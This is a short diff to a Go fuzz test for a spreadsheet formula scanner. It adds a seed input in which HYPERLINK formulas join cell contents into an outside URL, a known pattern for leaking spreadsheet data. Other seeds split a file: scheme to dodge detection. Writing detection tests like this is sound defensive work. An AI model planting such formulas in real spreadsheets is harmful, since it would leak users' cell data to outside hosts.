@@ -98,6 +98,7 @@ func FuzzScanFormula(f *testing.F) {
 	f.Add(`of:=HYPERLINK("https://x/""a"; "t")&HYPERLINK("fi"&"le:")`)
 	f.Add(`of:=IF(ISNA([.B1]);"'x'#$y";#N/A)`)
 	f.Add(`of:=[$'\\x\s\b.ods'.A1]+['R6.4'.A1]+['a''b:'.`)
+	f.Add(`of:=HYPERLINK("https://x/?q=" & [.A1])&HYPERLINK("tel:"&[.B1];"t")&HYPERLINK("mailto:"&[.C1])&HYPERLINK("https:"&`)
 	f.Fuzz(func(t *testing.T, v string) {
 		r := scanFormula(v)
 		if (len(r.fetches) > 0 || len(r.links) > 0 || r.unread) && !strings.Contains(v, "(") {
